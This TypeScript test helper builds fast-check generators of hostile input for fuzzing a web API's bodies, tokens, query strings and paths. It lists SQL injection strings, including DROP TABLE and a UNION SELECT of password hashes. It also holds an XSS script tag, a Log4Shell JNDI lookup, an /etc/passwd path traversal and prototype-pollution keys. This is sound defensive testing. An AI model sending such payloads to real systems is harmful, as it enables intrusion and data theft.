import fc from 'fast-check';
import { MAX_ID } from '../../../../src/common/validation.pipe';
import { words } from './operations';
import { RawJson } from './requests';

/*
 * Arbitraries of hostile text, numbers and JSON values, shared by the bodies, the tokens, the
 * query strings and the paths.
 */

export const UNICODE_SPECIMENS = [
  '👍🏽',
  '👨‍👩‍👧‍👦',
  '🏳️‍🌈',
  '𝕳𝖊𝖑𝖑𝖔',
  'مرحبا بالعالم',
  'שלום עולם',
  '\u202Egnp.exe',
  '\u200B',
  '\u200D\u200C',
  '\uFEFF',
  'Z\u0324\u0354\u0367\u0311\u0313a\u0356\u036D\u0308\u0307',
  '\u0000',
  'a\u0000b',
  '\u0001\u001F\u007F',
  '\r\n\t',
  '\u2028\u2029',
  'İıß\uFB03',
  '\uFFFE\uFFFF',
  '\u{10FFFF}',
  '\uD800',
  '\uDFFF',
  'a\uD83Db',
  '\uDE00\uD83D',
];

export const INJECTION_SPECIMENS = [
  "' OR 1=1 --",
  "'; DROP TABLE posts; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5); --',
  "') UNION SELECT password_hash FROM users --",
  '%',
  '_',
  '\\',
  '%_%\\',
  '$1',
  '::int',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://example.com/a}',
  '../../../etc/passwd',
  'null',
  'undefined',
  '[object Object]',
  '__proto__',
  'constructor',
];

/** Around the limits of the contract: 200-character titles, 20,000-character content, 72-byte passwords. */
export const boundaryText = fc
  .tuple(
    fc.constantFrom(7, 8, 36, 37, 72, 73, 199, 200, 201, 254, 255, 20_000, 20_001),
    fc.constantFrom('a', 'é', '👍', ' '),
  )
  .map(([count, unit]) => unit.repeat(count));

/** Tens of kilobytes; escaped characters make some of them larger than the body limit. */
export const hugeText = fc
  .tuple(fc.integer({ min: 10_000, max: 70_000 }), fc.constantFrom('a', 'é', '👍', '\u0000', '"', '\\', '\uD800'))
  .map(([count, unit]) => unit.repeat(count));

export const loneSurrogateUnit = fc
  .oneof(fc.integer({ min: 0xd800, max: 0xdfff }), fc.integer({ min: 0x20, max: 0x7e }))
  .map((code) => String.fromCharCode(code));

/** Text for URLs and headers: anything, but short enough for the 16 KiB header limit. */
export const shortHostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 15 }) },
  { weight: 1, arbitrary: fc.string({ unit: loneSurrogateUnit, maxLength: 10 }) },
  { weight: 3, arbitrary: fc.constantFrom(...UNICODE_SPECIMENS) },
  { weight: 3, arbitrary: fc.constantFrom(...INJECTION_SPECIMENS) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.constantFrom(...UNICODE_SPECIMENS, ...INJECTION_SPECIMENS), { minLength: 2, maxLength: 5 })
      .map((pieces) => pieces.join('')),
  },
);

/** Text for bodies: all of the above, around the limits, and huge. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: shortHostileText },
  { weight: 2, arbitrary: boundaryText },
  { weight: 1, arbitrary: hugeText },
);

export const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(0, -0, -1, 0.5, 1.5, MAX_ID, MAX_ID + 1, 2 ** 32, 2 ** 53, 2 ** 53 + 2, -(2 ** 31) - 1, 1e21, 1e308),
);

/** Numbers JSON.stringify never writes, and number-like tokens that are not JSON at all. */
export const numberTokens = fc
  .constantFrom(
    ...words('1e999 -1e999 -0 1.0 1E2 0.1e1 1e-400 123456789012345678901234567890 01 +1 .5 0x10 NaN Infinity'),
  )
  .map((text) => new RawJson(text));

/** Nesting deep enough to find recursion in a parser or a validator. */
export const deepNesting = fc
  .tuple(fc.integer({ min: 100, max: 20_000 }), fc.boolean())
  .map(
    ([depth, arrays]) =>
      new RawJson(arrays ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth)),
  );

export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
/** Fields a client must not be able to set, and prototype names. */
export const EXTRA_FIELDS = [
  ...words('id owner_id user_id created_at votes password_hash is_admin'),
  ...PROTOTYPE_KEYS,
  '',
];

export const jsonKey = fc.oneof(
  fc.constantFrom(...EXTRA_FIELDS, 'title', 'content', 'email', 'password'),
  fc.string({ maxLength: 10 }),
);

export const hostileScalar = fc.oneof(
  { weight: 2, arbitrary: fc.constant(null) },
  { weight: 2, arbitrary: fc.boolean() },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 6, arbitrary: hostileText },
  { weight: 1, arbitrary: numberTokens },
  { weight: 1, arbitrary: deepNesting },
);

/** Any JSON value, with nested arrays and objects. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{
  value: unknown;
  array: unknown[];
  object: Record<string, unknown>;
}>((tie) => ({
  value: fc.oneof({ depthSize: 'small', maxDepth: 3 }, hostileScalar, tie('array'), tie('object')),
  array: fc.array(tie('value'), { maxLength: 4 }),
  object: fc.dictionary(jsonKey, tie('value'), { maxKeys: 4 }),
})).value;

/** A small JSON value without huge strings, for token headers and payloads. */
export const smallJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  hostileNumber,
  shortHostileText,
  fc.dictionary(fc.string({ maxLength: 6 }), fc.oneof(shortHostileText, hostileNumber), { maxKeys: 3 }),
);
